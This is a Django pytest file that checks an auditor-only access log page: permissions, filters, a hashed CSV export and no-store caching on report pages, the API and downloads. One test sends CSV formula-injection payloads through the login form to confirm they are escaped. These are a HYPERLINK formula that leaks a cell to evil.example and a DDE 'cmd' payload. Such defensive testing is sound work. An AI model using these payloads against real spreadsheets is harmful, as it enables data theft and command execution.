"""The access log page (``/reports/access/``) shows auditors every way in, filtered and as CSV; every
report page, API answer and download is marked ``Cache-Control: no-store``."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
from typing import Any

import pytest
from django.contrib.auth.models import AbstractBaseUser
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from rest_framework.test import APIClient

from ledger.access_log import record
from ledger.models import AccessEvent, AccessEventKind, ReportExport
from tests.web.reports.test_reports_access import API, PAGES

pytestmark = pytest.mark.django_db

ACCESS = "/reports/access/"


def logged_in(user: AbstractBaseUser) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_auditors_read_the_access_log_and_dealers_don_t(users: dict[str, AbstractBaseUser]) -> None:
    Client().post(
        "/accounts/login/", {"username": "floor", "password": "nope"}, HTTP_X_FORWARDED_FOR="192.0.2.10"
    )
    auditor = logged_in(users["auditor"])  # itself a login, recorded
    page = auditor.get(ACCESS)
    assert page.status_code == 200
    assert page["Cache-Control"] == "max-age=0, no-cache, no-store, must-revalidate, private"
    text = page.text
    assert 'class="access-login_failed"' in text
    assert "192.0.2.10" in text
    assert 'class="access-login"' in text
    assert "auditor" in text
    assert reverse("reports:changes") in text  # group and permission changes: the change log
    assert logged_in(users["dealer"]).get(ACCESS).status_code == 403
    anonymous = Client().get(ACCESS)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/accounts/login/")


def test_the_access_log_filters_by_user_kind_and_period(users: dict[str, AbstractBaseUser]) -> None:
    record(kind=AccessEventKind.LOGIN_FAILED, username="Mallory")
    record(kind=AccessEventKind.LOCKED_OUT, username="mallory")
    recent = record(kind=AccessEventKind.LOGIN_FAILED, username="mallory-2")
    # A record's time is set when it is written; an old one is made by writing it with its time.
    AccessEvent.objects.create(
        kind=AccessEventKind.LOGIN_FAILED, username="last-year", at=timezone.now() - dt.timedelta(days=365)
    )
    auditor = logged_in(users["auditor"])
    rows = auditor.get(ACCESS, {"user": "mallory"}).text
    assert rows.count('class="access-') == 2
    rows = auditor.get(ACCESS, {"user": "mallory", "kind": "locked_out"}).text
    assert rows.count('class="access-') == 1
    assert "last-year" not in auditor.get(ACCESS).text  # the last 7 days by default
    last_year = (timezone.localdate() - dt.timedelta(days=365)).isoformat()
    assert "last-year" in auditor.get(ACCESS, {"date_from": last_year}).text
    assert recent.username in auditor.get(ACCESS).text
    bad = auditor.get(ACCESS, {"date_from": "2030-01-02", "date_to": "2030-01-01"})
    assert bad.status_code == 400
    assert "ends before it starts" in bad.text
    assert auditor.get(ACCESS, {"kind": "nonsense"}).status_code == 400


def test_the_access_log_downloads_as_csv(users: dict[str, AbstractBaseUser]) -> None:
    record(kind=AccessEventKind.LOGIN_FAILED, username="mallory", detail={"note": "a, comma"})
    auditor = logged_in(users["auditor"])
    response = auditor.get(ACCESS, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="access-')
    assert response["X-Content-SHA256"] == hashlib.sha256(response.content).hexdigest()
    assert "no-store" in response["Cache-Control"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["kind"] for row in rows] == ["login", "login_failed"]  # newest first: the auditor's login
    assert rows[1]["username"] == "mallory"
    assert rows[1]["detail"] == "{'note': 'a, comma'}"


def test_a_formula_typed_at_the_login_page_is_text_in_the_access_log_csv(
    users: dict[str, AbstractBaseUser],
) -> None:
    """An anonymous login attempt chooses its username and User-Agent: both come out of the CSV as
    text a spreadsheet shows, never as a formula it runs."""
    username = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    agent = "=cmd|' /C calc'!A0"
    Client().post("/accounts/login/", {"username": username, "password": "nope"}, HTTP_USER_AGENT=agent)
    rows = list(csv.DictReader(io.StringIO(logged_in(users["auditor"]).get(ACCESS, {"format": "csv"}).text)))
    failed = next(row for row in rows if row["kind"] == "login_failed")
    assert failed["username"] == "'" + username
    assert failed["user_agent"] == "'" + agent


@pytest.mark.parametrize(("name", "kwargs"), PAGES)
def test_every_report_page_is_no_store(
    name: str, kwargs: dict[str, Any], users: dict[str, AbstractBaseUser]
) -> None:
    response = logged_in(users["auditor"]).get(reverse(name, kwargs=kwargs))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize("url", API)
def test_every_ledger_api_answer_is_no_store(url: str, users: dict[str, AbstractBaseUser]) -> None:
    client = APIClient()
    client.force_authenticate(users["auditor"])
    response = client.get(url)
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]


def test_report_downloads_are_no_store(users: dict[str, AbstractBaseUser]) -> None:
    auditor = logged_in(users["auditor"])
    csv_download = auditor.get(reverse("reports:collection"), {"format": "csv"})
    assert csv_download.status_code == 200
    assert "no-store" in csv_download["Cache-Control"]
    export = ReportExport.objects.create(
        kind="collection", format="csv", params={}, status="done", content=b"x", sha256="0" * 64, size=1
    )
    page_download = auditor.get(reverse("reports:export-download", args=[export.pk]))
    assert page_download.content == b"x"
    assert "no-store" in page_download["Cache-Control"]
    api = APIClient()
    api.force_authenticate(users["auditor"])
    api_download = api.get(f"/api/ledger/exports/{export.pk}/download/")
    assert api_download.status_code == 200
    assert "no-store" in api_download["Cache-Control"]
